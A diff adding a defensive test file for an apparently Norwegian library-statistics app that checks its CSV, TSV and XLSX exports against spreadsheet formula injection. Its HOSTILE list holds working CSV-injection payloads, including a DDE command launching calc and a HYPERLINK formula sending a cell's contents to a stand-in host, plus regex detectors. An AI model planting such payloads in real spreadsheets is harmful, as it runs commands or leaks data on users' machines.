@@ -1,0 +1,127 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { fileURLToPath } from 'node:url';
+import { strFromU8, unzipSync } from 'fflate';
+import Papa from 'papaparse';
+import { describe, expect, test } from 'vitest';
+import { isoDate } from '#domain/model/brands.ts';
+import { usageFromRows } from '#domain/model/usage-columns.ts';
+import { libraryStatistics } from '#domain/statistics/library-statistics.ts';
+import { agreementWorkbench } from '#domain/workbench/agreement-workbench.ts';
+import { evidenceSheets } from '#domain/workbench/evidence.ts';
+import { statisticsFiles } from '#formats/statistics/statistics-files.ts';
+import { writeWorkbook } from '#formats/xlsx-writer/write-workbook.ts';
+import { MESSAGES } from '#texts/messages.ts';
+import { formatsFor } from '#ui/format.ts';
+import type { Column } from '#ui/table/column.ts';
+import { tableAsCsv, tableAsTsv } from '#ui/table/table-text.ts';
+import {
+  agreement,
+  agreementCount,
+  county,
+  NATIONAL,
+  organisation,
+  service,
+  tablesWith,
+  usageRow,
+  usageSource,
+} from '../../support/figure-records.ts';
+import { scopeIn } from '../../support/scopes.ts';
+
+/** What OWASP's "CSV Injection" warns of, and ways around a check that looks at the first character alone. */
+const HOSTILE = [
+  '=cmd|"/C calc"!A0',
+  '=HYPERLINK("http://x.example?"&A1;"Klikk")',
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)*cmd|"/C calc"!A0',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '＝1+1',
+  '＠SUM(A1)',
+  '";=1;"',
+  "'=1",
+  ';=1',
+];
+
+/** A cell that a spreadsheet would run. A plain negative number is only that. */
+const RUNS = /^[=+\-@＝＋－＠\t\r\n]/;
+const NUMBER = /^-?\d+(?:,\d+)?$/;
+
+function expectNothingRuns(csv: string, delimiter: string): void {
+  const { data } = Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { delimiter });
+  const running = data.flat().filter((cell) => RUNS.test(cell) && !NUMBER.test(cell));
+  expect(running).toEqual([]);
+}
+
+/** In a workbook only a formula element runs, and only a relationship or a hyperlink leads out. */
+function expectInert(workbook: Uint8Array): void {
+  const parts = Object.entries(unzipSync(workbook));
+  const text = parts.map(([, bytes]) => strFromU8(bytes)).join('\n');
+  expect(text).not.toMatch(/<f[ >]|<hyperlink|TargetMode="External"|<externalLink|ddeLink/);
+  expect(parts.some(([name]) => /vba|externalLinks|activeX/i.test(name))).toBe(false);
+}
+
+describe.each(HOSTILE)('with %j for every name', (name) => {
+  const tables = tablesWith({
+    organisations: [NATIONAL, county('NO-42', { name }), organisation({ id: 'NO-4204', county_id: 'NO-42', name })],
+    services: [{ ...service('avis'), name }],
+    agreements: [agreement({ id: 'a', service_id: 'avis', holder_id: 'NO-4204', note: name })],
+    agreement_counts: [{ ...agreementCount('NO-42', 'avis', '2022-06-30', 3), source: name }],
+    usage_sources: [usageSource({ id: 'kilde', service_id: 'avis', file_name: name, sha256: 'abc' })],
+  });
+  const scope = scopeIn(tables, 'NO-42');
+
+  test.each(['one', 'perMunicipality'] as const)('the library statistics, %s', async (split) => {
+    const usage = usageFromRows([
+      usageRow({ service_id: 'avis', source_id: 'kilde', organisation_id: 'NO-4204', count: 7 }),
+    ]);
+    const statistics = libraryStatistics({ tables, usage }, { scope, year: 2024 });
+    const texts = MESSAGES.nb.statistics;
+    for (const { bytes } of await statisticsFiles(statistics, 'csv', split, texts))
+      expectNothingRuns(strFromU8(bytes), ';');
+    for (const { bytes, fileName } of await statisticsFiles(statistics, 'xlsx', split, texts)) {
+      expectInert(bytes);
+      expect(fileName).toMatch(/^[\w.-]+$/);
+    }
+  });
+
+  test('the evidence for the agreement reduction', async () => {
+    const query = { on: isoDate('2024-12-31'), baseline: isoDate('2022-09-30'), claim: 0.97 };
+    const texts = MESSAGES.nb.workbench.evidence;
+    const sheets = evidenceSheets(agreementWorkbench(tables, scope, query), tables, { texts, sample: false });
+    expectInert(await writeWorkbook(sheets));
+  });
+
+  test('any table of the program, as CSV and on the clipboard', () => {
+    const columns: readonly Column<{ name: string }>[] = [
+      { id: 'a', head: name, kind: 'text', width: 5, value: (row) => row.name },
+      { id: 'b', head: 'B', kind: 'text', width: 5, value: (row) => row.name },
+    ];
+    expectNothingRuns(tableAsCsv(columns, [{ name }], formatsFor('nb')), ';');
+    expectNothingRuns(tableAsTsv(columns, [{ name }], formatsFor('nb')), '\t');
+  });
+
+  test('a workbook of whatever sheets', async () => {
+    const columns = [{ header: name, type: 'text', width: 5 }] as const;
+    expectInert(await writeWorkbook([{ name, columns, rows: [[name]], notes: [name] }]));
+  });
+});
+
+test('every part of the program that writes a spreadsheet is tried above', () => {
+  const root = fileURLToPath(new URL('../../../src-renderer/', import.meta.url));
+  const writers = readdirSync(root, { recursive: true })
+    .map((path) => String(path).replaceAll('\\', '/'))
+    .filter((path) => /\.tsx?$/.test(path))
+    .filter((path) =>
+      /\b(?:writeWorkbook|writeExcelCsv|tableAsCsv|tableAsTsv)\b/.test(readFileSync(root + path, 'utf8')),
+    );
+  expect(writers.sort(), 'A new export gets a test with hostile names here').toEqual([
+    'formats/csv/excel-csv.ts',
+    'formats/statistics/statistics-files.ts',
+    'formats/xlsx-writer/write-workbook.ts',
+    'ui/table/data-table.tsx',
+    'ui/table/table-text.ts',
+    'workers/savings-figures.ts',
+  ]);
+});
